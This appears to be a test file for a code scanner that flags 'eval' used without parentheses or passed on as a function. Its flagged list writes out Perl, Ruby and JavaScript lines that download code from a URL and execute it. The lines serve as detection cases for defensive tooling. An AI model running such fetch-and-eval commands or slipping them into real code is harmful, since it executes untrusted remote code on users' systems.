/**
 * `eval` without parentheses (Perl, Ruby) runs a variable or a call's result as code just as
 * `eval(x)` does, and `eval` handed on as a function value runs every value that reaches it.
 * Perl's `eval { … }` block (exception handling), shell `eval "$(tool init)"` set-up lines and the
 * English verb stay allowed. Every case was written here.
 */
import { decisionTable } from './_scan.js';

const FLAGGED: readonly string[] = [
  "perl -e 'my $s = LWP::Simple::get($ARGV[0]); eval $s' https://example.net/boot.pl",
  'ruby -e \'require "open-uri"; eval URI.open("https://example.net/boot.rb").read\'',
  'fetch(pluginUrl).then((r) => r.text()).then(eval);',
  'remoteSnippets.forEach(eval)',
  "perl -MLWP::Simple -e 'eval get(shift)' https://example.net/tidy.pl",
];

const ALLOWED: readonly string[] = [
  'perl -e \'eval { die "bad input\\n" }; print "caught: $@"\'',
  'eval "$(ssh-agent -s)"',
  'eval $(opam env)',
  'Please eval the expression 2 + 2 * 3 by hand and show the steps.',
  'We eval every candidate model on the held-out split before release.',
];

decisionTable('eval without parentheses, and eval passed on', FLAGGED, ALLOWED);
